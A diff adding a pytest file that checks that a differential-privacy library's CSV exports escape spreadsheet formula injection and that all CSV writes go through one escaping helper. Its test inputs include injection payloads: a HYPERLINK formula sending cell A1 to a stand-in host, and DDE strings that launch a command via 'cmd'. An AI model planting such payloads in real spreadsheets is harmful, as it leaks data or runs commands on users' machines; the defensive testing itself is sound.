@@ -1,0 +1,195 @@
+"""CSV formula injection (issue 18, item 4): no CSV export lets a spreadsheet run a cell.
+
+Area codes, area names, attribute values and query labels come from the curator's files, made by
+anyone.  A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula to a
+spreadsheet.  Every CSV writer is fed such text and must write it escaped (a leading single quote,
+the field in double quotes); numbers stay numbers; safe inputs give the bytes they always gave.
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+
+import dpcore
+from dpcore import pipeline
+from dpcore.areas import area_sets, census_privelet, census_tables, export, marginals
+from dpcore.areas.hierarchy import Hierarchy, HierarchyCounts
+from dpcore.data.csv_safe import FORMULA_PREFIXES, csv_bytes
+from dpcore.data.domain import Aggregate, Bounds, Grid
+from dpcore.flows import export as fexport
+from dpcore.flows.counts import ODCounts
+from dpcore.points import export as pexport
+from dpcore.points.workload_io import parse_rectangles
+from dpcore.privacy import budget
+from dpcore.privacy.ledger import Ledger
+from dpcore.privacy.noise import NoiseSource
+
+EVIL = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "\t=1", "\r=2"]
+
+
+def fields(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def assert_no_formula(data: bytes, numeric: set[str] = frozenset()) -> None:
+    """No field starts like a formula unless it is a number in a numeric column; every escaped
+    field is quoted in the file."""
+    rows = fields(data)
+    head = rows[0]
+    for row in rows:
+        for name, v in zip(head, row, strict=True):
+            if v[:1] in FORMULA_PREFIXES:
+                assert name in numeric, (name, v)
+                float(v)  # a number, written as one
+    text = data.decode("utf-8")
+    for row in rows:
+        for v in row:
+            if v.startswith("'") and v[1:2] in FORMULA_PREFIXES:
+                assert '"' + v.replace('"', '""') + '"' in text, v
+
+
+def test_helper_escapes_text_keeps_numbers_and_safe_bytes() -> None:
+    df = pd.DataFrame({"code": ["E1", *EVIL], "n": [4, -3, 2, -1, 0, 5, -6], "x": np.linspace(-1, 1, 7)})
+    for write in (lambda d: d.to_csv(index=False).encode(),
+                  lambda d: d.to_csv(index=False, float_format="%.6g", lineterminator="\r\n").encode()):
+        out = csv_bytes(df, write)
+        assert_no_formula(out, {"n", "x"})
+        back = pd.read_csv(io.BytesIO(out), keep_default_na=False)
+        assert back["code"].tolist() == ["E1", *("'" + v for v in EVIL)]
+        assert back["n"].tolist() == df["n"].tolist() and back["n"].dtype.kind == "i"
+        assert b"\n-3," not in out and b",-3," in out  # the negative number unquoted
+        safe = df.assign(code=[f"A{i}" for i in range(7)])
+        assert csv_bytes(safe, write) == write(safe)
+    hdr = csv_bytes(pd.DataFrame({"=evil": [1]}), lambda d: d.to_csv(index=False).encode())
+    assert hdr == b"\"'=evil\"\n1\n"
+
+
+def test_points_release_csv_is_unchanged() -> None:
+    """``release.csv`` of points has no text from files; its bytes are pyarrow's, as before."""
+    import pyarrow as pa
+    import pyarrow.csv as pacsv
+
+    from dpcore.pipeline import release_points
+
+    g = Grid(Bounds(0.0, 0.0, 1.0, 1.0), 4, 4)
+    agg = Aggregate(g, np.zeros((4, 4), np.int64), 0, 0, 1, None)
+    rel = release_points(agg, "identity", 1.0, {}, Ledger(budget.pure(2.0)), noise=NoiseSource(1))
+    buf = io.BytesIO()
+    pacsv.write_csv(pa.Table.from_pandas(pexport.release_frame(rel), preserve_index=False), buf,
+                    pacsv.WriteOptions(quoting_style="none"))
+    out = pexport.release_csv(rel)
+    assert out == buf.getvalue()
+    assert_no_formula(out, {"noisy_count", "ci95_low", "ci95_high", "west", "east", "south", "north"})
+
+
+def test_points_workload_answers() -> None:
+    from dpcore.pipeline import release_points
+
+    names = ["=HYPERLINK(A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)", "=a", "b"]
+    rects = "".join(f"{v},0,0,0.5,0.5,1,{g}\n"
+                    for v, g in zip(names, ["@g", "=g", "g", "-g", "+g", "g"], strict=True))
+    params = {"workload": "uploaded",
+              "rectangles": parse_rectangles("name,lon_min,lat_min,lon_max,lat_max,weight,group\n" + rects).to_list()}
+    g = Grid(Bounds(0.0, 0.0, 1.0, 1.0), 4, 4)
+    agg = Aggregate(g, np.zeros((4, 4), np.int64), 0, 0, 1, None)
+    rel = release_points(agg, "matrix", budget.zcdp(0.5), params, Ledger(budget.zcdp(1.0)), noise=NoiseSource(2))
+    out = pexport.workload_answers_csv(rel)
+    rows = fields(out)
+    assert rows[1][1] == "'=HYPERLINK(A1)" and rows[1][2] == "'@g" and rows[3][1] == "'-2+3"
+    assert_no_formula(out, {"answer", "ci95_low", "ci95_high", "west", "east", "south", "north",
+                            "lon_min", "lat_min", "lon_max", "lat_max"})
+
+
+@pytest.fixture(scope="module")
+def evil_hierarchy() -> tuple[Hierarchy, HierarchyCounts]:
+    df = pd.DataFrame({"s": ["=1+2", "=1+2", "@A"], "c": ["-001", "+002", "=cmd|' /C calc'!A0"], "n": [5, 0, 3]})
+    h = Hierarchy.from_frame(df, ["s", "c"], source="table (confirmed public)")
+    return h, HierarchyCounts.from_frame(df, h, ["s", "c"], "n")
+
+
+def test_hierarchy_and_area_sets(evil_hierarchy) -> None:
+    h, counts = evil_hierarchy
+    sets = area_sets.read_area_sets(b'query,area\n"=SUM(A1:A9)",@A\n-both,=1+2\n', h, "sets.csv")
+    for mech, cost, opts in (("hay", budget.zcdp(0.5), {}), ("matrix", budget.zcdp(0.5), {"area_sets": sets})):
+        rel = pipeline.release_hierarchy(counts, mech, cost, Ledger(budget.zcdp(1.0)), noise=NoiseSource(3), **opts)
+        out = export.hierarchy_csv(rel)
+        codes = {r[1] for r in fields(out)[1:]}
+        assert {"'=1+2", "'-001", "'@A"} <= codes
+        assert_no_formula(out, {"noisy_count"})
+        if mech == "matrix":
+            out = area_sets.area_sets_csv(rel)
+            assert [r[0] for r in fields(out)[1:]] == ["'=SUM(A1:A9)", "'-both"]
+            assert_no_formula(out, {"noisy_total", "ci95_low", "ci95_high"})
+
+
+def test_census_privelet_and_marginals() -> None:
+    df = pd.DataFrame({"state": ["=01"] * 4, "county": ["-001", "-001", "@003", "@003"],
+                       "age": ["=a", "+b", "=a", "+b"], "pop": [7, 1, 5, 2]})
+    table = census_tables.CensusTable.from_frame(df, ["state", "county"], "pop", ordinals=["age"],
+                                                 ordinal_orders={"age": ["=a", "+b"]})
+    led = Ledger(budget.zcdp(5.0))
+    rel = pipeline.release_census(table, "privelet", budget.pure(1.0), led, noise=NoiseSource(4))
+    out = census_privelet.census_csv(rel)
+    rows = fields(out)
+    assert "'-001" in {v for r in rows for v in r}
+    numeric = {c for c in rows[0] if c not in ("level", "state", "county") and not c.endswith("_name")}
+    assert_no_formula(out, numeric)
+    p = marginals.plan(table.structure, "county", [(0, 1), (1,)], budget.zcdp(0.5))
+    out = marginals.marginals_csv(marginals.release(table, p, NoiseSource(5)))
+    cells = {v for r in fields(out) for v in r}
+    assert {"'=01/-001", "'=a", "'+b"} <= cells
+    assert_no_formula(out, {"noisy_count", "ci95_low", "ci95_high"})
+
+
+def test_od_release_csv() -> None:
+    areas = pd.DataFrame({"region": ["=R", "=R", "-S"], "zone": ["@1", "+2", "3"]})
+    h = Hierarchy.from_frame(areas, ["region", "zone"])
+    labs = list(h.labels(h.depth))
+    flows = pd.DataFrame({"o": np.repeat(labs, 3), "d": np.tile(labs, 3), "n": np.arange(9) * 10})
+    counts = ODCounts.from_frame(flows, h, origin="o", destination="d", count="n")
+    rel = pipeline.release_od(counts, "inftda", budget.zcdp(0.5), Ledger(budget.zcdp(1.0)), noise=NoiseSource(6))
+    out = fexport.release_csv_bytes(rel)
+    assert_no_formula(out, {"noisy_count"})
+    assert any(v.startswith("'") for r in fields(out)[1:] for v in r[1:3])
+
+
+def _inside_csv_bytes(tree: ast.AST) -> set[int]:
+    """Line numbers of CSV writes that are the ``write`` of a ``csv_bytes`` call."""
+    ok: set[int] = set()
+    writers: set[str] = set()
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "csv_bytes" and len(node.args) == 2:
+            w = node.args[1]
+            if isinstance(w, ast.Lambda):
+                ok.update(n.lineno for n in ast.walk(w) if hasattr(n, "lineno"))
+            elif isinstance(w, ast.Name):
+                writers.add(w.id)
+    for node in ast.walk(tree):
+        if isinstance(node, ast.FunctionDef) and node.name in writers:
+            ok.update(n.lineno for n in ast.walk(node) if hasattr(n, "lineno"))
+    return ok
+
+
+def test_every_csv_writer_goes_through_the_helper() -> None:
+    """Every ``to_csv`` / ``write_csv`` / ``csv.writer`` of the library (the CLI's evaluation
+    output included) is the ``write`` of a ``csv_bytes`` call."""
+    root = Path(dpcore.__file__).parent
+    bad = []
+    for path in root.rglob("*.py"):
+        if path.name == "csv_safe.py":
+            continue
+        tree = ast.parse(path.read_text("utf-8"))
+        ok = _inside_csv_bytes(tree)
+        for node in ast.walk(tree):
+            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
+                    and node.func.attr in ("to_csv", "write_csv", "writer", "DictWriter")
+                    and node.lineno not in ok):
+                bad.append(f"{path.relative_to(root)}:{node.lineno}")
+    assert not bad, bad
